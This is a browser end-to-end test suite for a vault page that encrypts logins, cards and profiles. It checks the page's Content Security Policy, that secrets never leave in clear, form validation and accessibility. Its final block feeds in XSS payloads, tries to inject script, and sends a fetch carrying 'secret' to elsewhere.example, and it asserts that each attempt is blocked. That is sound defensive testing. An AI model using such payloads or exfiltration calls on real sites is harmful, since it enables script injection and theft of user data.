/** The page that seals, in a real browser: what leaves it is a sealed box, and nothing but its own script runs in it. */
import { createHash } from "node:crypto"
import { readFileSync } from "node:fs"
import { createRequire } from "node:module"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { openEntry } from "../../edge/sdk/vault/seal.ts"
import type { VaultEntry } from "../../schemas/vault/records.ts"
import { type TestBrowser, openBrowser, type Visit } from "../support/browser.ts"
import { waitFor } from "../harness/index.ts"
import { send } from "../support/http.ts"
import { dataOf } from "../support/outcome.ts"
import { type TestService, testService } from "../support/service.ts"
import { asHolder, issueToken, oneTimeKey, VAULT, type WithVault, withVault } from "../support/vault.ts"
import { overflow } from "./in-page.ts"

const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8")
const FIND = `axe.run(document, { resultTypes: ["violations"] }).then(({ violations }) =>
  violations.map(({ id, nodes }) => ({ rule: id, at: nodes.map(({ html }) => html.slice(0, 120)) })))`
const NARROW = { width: 360, height: 740 }
const PASSWORD = "correct horse battery 18"
const SHOP = "https://shop.example"

let service: TestService
let browser: TestBrowser
let edge = ""
let of: WithVault
beforeAll(async () => {
  service = await testService({ edges: 1, actors: 1, keeper: true })
  edge = service.edges[0] ?? ""
  browser = await openBrowser()
  of = await withVault(service)
})
afterAll(async () => {
  await browser?.stop()
  await service?.stop()
})

const sourceFor = async (...kinds: ReadonlyArray<VaultEntry["kind"]>): Promise<{ id: number; token: string }> =>
  dataOf(await of.client.call("POST", `${VAULT}/sources`, { body: { label: "A person", kinds } }))

/** Everything that a page sends, as the browser itself tells it. */
const watched = async ({ page }: Visit) => {
  const sent: Array<{ readonly url: string; readonly text: string }> = []
  const devtools = await page.context().newCDPSession(page)
  await devtools.send("Network.enable")
  devtools.on("Network.requestWillBeSent", ({ request }) => {
    const { url, method, headers, postData = "" } = request
    sent.push({ url, text: `${method} ${url} ${JSON.stringify(headers)} ${postData}` })
  })
  return sent
}

const opening = async (token: string, path = "/vault/seal"): Promise<Visit> => {
  const visit = await browser.visit(`${edge}${path}`, { viewport: NARROW })
  await visit.page.getByLabel("Token").fill(token)
  await press(visit, "Go on")
  return visit
}

const press = ({ page }: Visit, name: string) => page.getByRole("button", { name, exact: true }).click()
const field = ({ page }: Visit, kind: string, name: string) => page.locator(`#seal-${kind}-${name}`)
const fill = async (visit: Visit, kind: string, values: Readonly<Record<string, string>>): Promise<void> => {
  for (const [name, value] of Object.entries(values)) await field(visit, kind, name).fill(value)
}
const status = async ({ page }: Visit, words: string | RegExp): Promise<void> =>
  page.getByRole("status").filter({ hasText: words }).waitFor()

const looksWell = async ({ page }: Visit): Promise<void> => {
  // Playwright's own way in: the page's policy lets no other script run.
  await page.evaluate(AXE)
  expect(await page.evaluate(FIND)).toEqual([])
  expect(await page.evaluate(overflow)).toBe(0)
}

const entries = async (): Promise<ReadonlyArray<VaultEntry>> => dataOf(await of.client.call("GET", `${VAULT}/entries`))

const readBack = async (entry_id: number, action: string, more: object = {}): Promise<unknown> => {
  const ask = asHolder(service, await issueToken(service, of.agent.id))
  const key = await oneTimeKey()
  const { ephemeral_public_key } = key
  const loaded = dataOf<{ readonly public_key: string; readonly sealed_key: string }>(
    await ask("POST", `${VAULT}/service/key`, { ephemeral_public_key })
  )
  const { ciphertext } = dataOf<{ readonly ciphertext: string }>(
    await ask("POST", `${VAULT}/service/fill`, { entry_id, action, origin: SHOP, ...more })
  )
  return openEntry(ciphertext, {
    public_key: Buffer.from(loaded.public_key, "base64"),
    private_key: key.open(loaded.sealed_key)
  })
}

it("has one script, known by its hash; is kept by nobody, found by nobody, framed by nobody", async () => {
  const { text, headers } = await send({ edge, method: "GET", path: "/vault/seal", headers: { accept: "text/html" } })
  const scripts = [...text.matchAll(/<script>([\s\S]*?)<\/script>/g)].map(([, script = ""]) => script)
  expect([scripts.length, text.match(/<script/gi)?.length]).toEqual([1, 1])
  const hash = createHash("sha256")
    .update(scripts[0] ?? "")
    .digest("base64")
  const policy = String(headers["content-security-policy"])
  const directives = new Map(policy.split("; ").map((one) => [one.split(" ")[0], one.split(" ").slice(1).join(" ")]))
  expect(Object.fromEntries(directives)).toEqual({
    "default-src": "'none'",
    "script-src": `'sha256-${hash}' 'wasm-unsafe-eval'`,
    "connect-src": "'self'",
    "style-src": expect.stringMatching(/^'sha256-[\w+/]{43}='$/),
    "img-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'none'",
    "frame-ancestors": "'none'",
    "require-trusted-types-for": "'script'",
    "trusted-types": "'none'"
  })
  expect(headers).toMatchObject({
    "cache-control": "no-store",
    "referrer-policy": "no-referrer",
    "x-robots-tag": "noindex",
    "cross-origin-opener-policy": "same-origin"
  })
  expect(text).toContain('<meta name="robots" content="noindex">')
  expect(text).toContain("<noscript>")
  expect(text).not.toMatch(/ on[a-z]+=|javascript:/)
})

describe("a login", () => {
  it("leaves the page sealed, and no other way; the fields are wiped", async () => {
    const { id, token } = await sourceFor("login", "card")
    const visit = await browser.visit(`${edge}/vault/seal`, { viewport: NARROW })
    const sent = await watched(visit)
    await looksWell(visit)
    await visit.page.getByLabel("Token").fill(token)
    // By keyboard.
    await visit.page.keyboard.press("Enter")
    await visit.page.getByText(`You write into the vault ${of.vault.uid}.`).waitFor()
    await looksWell(visit)
    expect(await field(visit, "profile", "chosen").isDisabled()).toBe(true)
    await fill(visit, "login", {
      username: "ada-18",
      password: PASSWORD,
      totp: "JBSWY3DPEHPK3PXP",
      origins: "shop.example/login?next=1\n",
      label: "My shop"
    })
    await visit.page.keyboard.press("Enter")
    await status(visit, /^Sealed and sent: it is entry \d+ of the vault\./)
    for (const name of ["username", "password", "totp", "origins", "label"])
      expect([name, await field(visit, "login", name).inputValue()]).toEqual([name, ""])
    await looksWell(visit)

    const [entry] = await entries()
    expect(entry).toMatchObject({ kind: "login", label: "My shop", origins: [SHOP], source: `source:${id}` })
    expect(await readBack(entry?.id ?? 0, "login")).toMatchObject({
      username: "ada-18",
      password: PASSWORD,
      totp: "JBSWY3DPEHPK3PXP"
    })
    // Of typed secrets nothing, in no spelling of a text; the token to the service alone.
    expect(sent.map(({ url }) => url.slice(edge.length))).toEqual(["/api/v1/vault/source", "/api/v1/vault/entries"])
    const all = sent.map(({ text }) => decodeURIComponent(text.replaceAll("%", "%25"))).join("\n")
    expect(all).toContain("hxv1.")
    for (const secret of ["ada-18", PASSWORD, "JBSWY3DPEHPK3PXP"])
      for (const spelled of [secret, Buffer.from(secret).toString("base64").slice(0, -4), encodeURIComponent(secret)])
        expect(all).not.toContain(spelled)
    expect(visit.requests.filter((url) => !url.startsWith(`${edge}/`))).toEqual([])
    expect(visit.complaints).toEqual([])
    await visit.close()
  })

  it("takes the token from behind the address's #, which forgets it", async () => {
    const { token } = await sourceFor("secret")
    const visit = await browser.visit(`${edge}/vault/seal#${token}`)
    await visit.page.getByText("The token holds.").waitFor()
    expect(visit.page.url()).toBe(`${edge}/vault/seal`)
    const kept =
      "[location.href, document.documentElement.outerHTML, document.getElementById('seal-token').value].join()"
    expect(String(await visit.page.evaluate(kept))).not.toContain(token)
    await fill(visit, "secret", { value: PASSWORD, origins: SHOP })
    await field(visit, "secret", "consent").check()
    await press(visit, "Seal and send")
    await status(visit, "Sealed and sent")
    expect((await entries())[0]).toMatchObject({ kind: "secret", consent: "owner" })
    expect(await field(visit, "secret", "consent").isChecked()).toBe(false)
    await fill(visit, "secret", { value: PASSWORD, origins: SHOP })
    await press(visit, "Seal and send")
    const [entry] = await waitFor(async () => {
      const all = await entries()
      return all[0]?.consent === null ? all : null
    })
    expect(await readBack(entry?.id ?? 0, "secret", { field: "pin" })).toMatchObject({ value: PASSWORD })
    await visit.close()
  })
})

describe("a card and a profile", () => {
  it("are sealed with their limits, and their address", async () => {
    const visit = await opening((await sourceFor("card", "profile")).token)
    await fill(visit, "card", {
      number: "4111 1111 1111 1111",
      exp_month: "04",
      exp_year: "2031",
      cvc: "987",
      label: "Visa",
      currency: "EUR",
      per_payment: "50",
      per_day: "100",
      fills_per_day: "5"
    })
    await press(visit, "Seal and send")
    await status(visit, "Sealed and sent")
    const [card] = await entries()
    const limits = { currency: "EUR", per_payment: "50.00", per_day: "100.00", fills_per_day: 5 }
    expect(card).toMatchObject({ kind: "card", limits, origins: [], label: "Visa" })
    const paying = { amount: "5", currency: "EUR" }
    expect(await readBack(card?.id ?? 0, "pay", paying)).toMatchObject({
      number: "4111111111111111",
      cvc: "987",
      limits
    })
    await visit.page.getByLabel("A profile").check()
    await fill(visit, "profile", { email: "ada@example.org", city: "London" })
    await press(visit, "Seal and send")
    await status(visit, "Sealed and sent")
    expect((await entries())[0]).toMatchObject({ kind: "profile", label: null })
    await visit.close()
  })
})

describe("what is wrong is told in its place", () => {
  it.each([
    ["login", { username: "ada", password: PASSWORD, origins: "http://shop.example" }, "origins", /https origin/],
    ["login", { username: "ada", password: PASSWORD, origins: "" }, "origins", /name the websites/],
    ["login", { username: "ada", origins: SHOP }, "password", /not empty/],
    ["login", { username: "ada", password: PASSWORD, origins: SHOP, label: PASSWORD }, "label", /in clear/],
    ["card", { number: "4111 1111 1111 1112" }, "currency", /ISO 4217/],
    ["card", { currency: "EUR", per_payment: "x", fills_per_day: "1" }, "per_payment", /amount of EUR/]
  ])("%s with %j: %s", async (kind, values, wrong, words) => {
    const visit = await opening((await sourceFor("login", "card")).token)
    const sent = await watched(visit)
    await visit.page.locator(`#seal-${kind}-chosen`).check()
    await fill(visit, kind, values as Readonly<Record<string, string>>)
    await press(visit, "Seal and send")
    await visit.page.locator(`#seal-${kind}-${wrong}-problem`).filter({ hasText: words }).waitFor()
    const about = await field(visit, kind, wrong).getAttribute("aria-describedby")
    expect(about).toContain(`seal-${kind}-${wrong}-problem`)
    expect(await visit.page.evaluate("document.activeElement.id")).toBe(`seal-${kind}-${wrong}`)
    expect(await field(visit, kind, wrong).getAttribute("aria-invalid")).toBe("true")
    await looksWell(visit)
    expect(sent).toEqual([])
    await visit.close()
  })

  it("a token that is none, or has ended, opens nothing", async () => {
    const { id, token } = await sourceFor("login")
    await of.client.call("DELETE", `${VAULT}/sources/${id}`)
    for (const [given, words] of [
      [token, "it has ended"],
      ["hxs_x", "This is no token"],
      [token.replace("hxs_", "hxv_"), "This is no token"]
    ] as const) {
      const visit = await opening(given)
      await visit.page.locator("#seal-token-problem").filter({ hasText: words }).waitFor()
      expect(await visit.page.locator("#seal-form").isVisible()).toBe(false)
      await visit.close()
    }
  })

  it("an answer of the service's that refuses is told in its words, and what was typed stays", async () => {
    const { id, token } = await sourceFor("login")
    const visit = await opening(token)
    await fill(visit, "login", { username: "ada", password: PASSWORD, origins: SHOP })
    await of.client.call("DELETE", `${VAULT}/sources/${id}`)
    await press(visit, "Seal and send")
    await status(visit, "This token is none")
    expect(await field(visit, "login", "password").inputValue()).toBe(PASSWORD)
    await visit.close()
  })
})

describe("no script but its own runs", () => {
  const EVIL = `<img src="x" onerror="alert(1)"><script>alert(2)</script>`
  const INJECT = `{
    const script = document.createElement("script")
    let refused = ""
    try { script.text = "window.ran = true" } catch (error) { refused = error.name }
    document.body.append(script)
    try { document.body.insertAdjacentHTML("beforeend", "<b>") } catch (error) { refused += " " + error.name }
    refused
  }`

  it("whatever the service answers, and whatever is typed", async () => {
    const { token } = await sourceFor("login")
    const visit = await browser.visit(`${edge}/vault/seal`)
    await visit.page.route("**/api/v1/vault/source", (route) =>
      route.fulfill({
        json: {
          ok: true,
          data: { vault: EVIL, public_key: of.vault.public_key, status: EVIL, kinds: [EVIL, "login", "__proto__"] }
        }
      })
    )
    await visit.page.route("**/api/v1/vault/entries", (route) =>
      route.fulfill({
        status: 422,
        json: { ok: false, error: { code: "validation_error", message: EVIL, details: { field: EVIL } } }
      })
    )
    await visit.page.getByLabel("Token").fill(token)
    await press(visit, "Go on")
    await visit.page.getByText(`You write into the vault ${EVIL}`).waitFor()
    await fill(visit, "login", { username: EVIL, password: EVIL, origins: SHOP, label: "<b>bold</b>" })
    await press(visit, "Seal and send")
    await status(visit, EVIL)
    expect(await visit.page.evaluate("[document.images.length, document.scripts.length]")).toEqual([0, 1])
    expect(visit.dialogs).toEqual([])
    expect(visit.requests.filter((url) => !url.startsWith(`${edge}/`))).toEqual([])
    expect(await visit.page.evaluate(INJECT)).toBe("TypeError TypeError")
    expect(await visit.page.evaluate("window.ran")).toBeUndefined()
    await visit.close()
  })

  it("and nothing is sent elsewhere", async () => {
    const visit = await browser.visit(`${edge}/vault/seal`)
    const tried = await visit.page.evaluate(
      `fetch("https://elsewhere.example/?" + "secret").then(() => "sent", (error) => error.name)`
    )
    expect(tried).toBe("TypeError")
    expect(visit.complaints.join("\n")).toContain("connect-src 'self'")
    await visit.close()
  })
})
